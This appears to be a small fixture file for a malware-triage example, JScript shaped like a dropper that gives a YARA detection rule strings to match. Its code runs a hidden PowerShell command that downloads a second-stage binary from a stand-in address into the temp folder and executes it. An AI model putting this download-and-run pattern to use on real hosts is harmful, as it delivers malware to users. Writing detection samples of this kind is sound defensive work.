// Sample evidence for the MominAI triage example: inert text shaped like a JScript dropper.
// Nothing here runs; it only carries the strings the example's YARA rule looks for.
var shell = new ActiveXObject("WScript.Shell");
var stage2 = "http://203.0.113.7/stage2.bin";
shell.Run("powershell -w hidden -c iwr " + stage2 + " -OutFile %TEMP%\\s2.exe; %TEMP%\\s2.exe", 0);
